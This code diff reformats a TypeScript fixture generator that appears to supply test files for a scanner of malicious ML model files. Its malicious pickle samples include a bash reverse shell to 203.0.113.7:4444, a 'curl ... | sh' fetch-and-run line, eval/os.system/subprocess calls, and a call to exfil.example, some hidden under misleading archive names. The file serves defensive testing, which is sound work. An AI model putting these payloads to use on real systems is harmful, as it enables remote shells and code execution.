@@ -4,7 +4,11 @@
  */
 import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { legacyTorchFile, sklearnJoblibPipeline, torchStateDictPickle } from '../test/fixtures/checkpoints.ts';
+import {
+  legacyTorchFile,
+  sklearnJoblibPipeline,
+  torchStateDictPickle,
+} from '../test/fixtures/checkpoints.ts';
 import { buildNpy } from '../test/fixtures/npy-writer.ts';
 import { concat, pickle, reducePayload, stackGlobalPayload } from '../test/fixtures/pickle-writer.ts';
 import { buildSevenZip } from '../test/fixtures/sevenzip-writer.ts';
@@ -14,19 +18,49 @@ import { buildTorchZip, buildZip } from '../test/fixtures/zip-writer.ts';
 export async function exampleFiles(): Promise<[string, Uint8Array][]> {
   const reverseShell = reducePayload('os', 'system', ['bash -c "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"']);
   return [
-    ['benign/bert_state_dict.pt', buildTorchZip(torchStateDictPickle(4), { storages: [...Array(8)].map(() => new Uint8Array(64)) })],
+    [
+      'benign/bert_state_dict.pt',
+      buildTorchZip(torchStateDictPickle(4), { storages: [...Array(8)].map(() => new Uint8Array(64)) }),
+    ],
     ['benign/legacy_checkpoint.pth', legacyTorchFile()],
     ['benign/sklearn_pipeline.joblib', sklearnJoblibPipeline()],
     ['benign/embeddings.npy', buildNpy({ descr: '<f4', shape: [4, 4], data: new Uint8Array(64) })],
     ['malicious/reverse_shell.pt', buildTorchZip(reverseShell)],
-    ['malicious/hidden_as_data_txt.zip', buildZip([{ name: 'model/data.txt', data: reducePayload('builtins', 'eval', ["__import__('os').system('id')"]) }])],
+    [
+      'malicious/hidden_as_data_txt.zip',
+      buildZip([
+        {
+          name: 'model/data.txt',
+          data: reducePayload('builtins', 'eval', ["__import__('os').system('id')"]),
+        },
+      ]),
+    ],
     [
       'malicious/header_name_mismatch.pt',
-      buildZip([{ name: 'archive/data.pkl', localName: 'archive/datap.kl', data: reducePayload('subprocess', 'run', ['id']) }]),
+      buildZip([
+        {
+          name: 'archive/data.pkl',
+          localName: 'archive/datap.kl',
+          data: reducePayload('subprocess', 'run', ['id']),
+        },
+      ]),
     ],
-    ['malicious/payload_in_second_pickle.bin', concat(pickle().proto(2).none().stop().bytesOut(), stackGlobalPayload('pathlib', 'os.system', ['id']))],
-    ['malicious/legacy_payload_in_pickle4.pt', legacyTorchFile(reducePayload('posix', 'system', ['curl http://203.0.113.7 | sh']))],
-    ['malicious/object_array.npy', buildNpy({ descr: '|O', shape: [1], data: reducePayload('ssl', 'get_server_certificate', ['exfil.example', '443']) })],
+    [
+      'malicious/payload_in_second_pickle.bin',
+      concat(pickle().proto(2).none().stop().bytesOut(), stackGlobalPayload('pathlib', 'os.system', ['id'])),
+    ],
+    [
+      'malicious/legacy_payload_in_pickle4.pt',
+      legacyTorchFile(reducePayload('posix', 'system', ['curl http://203.0.113.7 | sh'])),
+    ],
+    [
+      'malicious/object_array.npy',
+      buildNpy({
+        descr: '|O',
+        shape: [1],
+        data: reducePayload('ssl', 'get_server_certificate', ['exfil.example', '443']),
+      }),
+    ],
     ['malicious/nullifai_in_7z.7z', await buildSevenZip([{ name: 'model.pkl', data: reverseShell }])],
   ];
 }
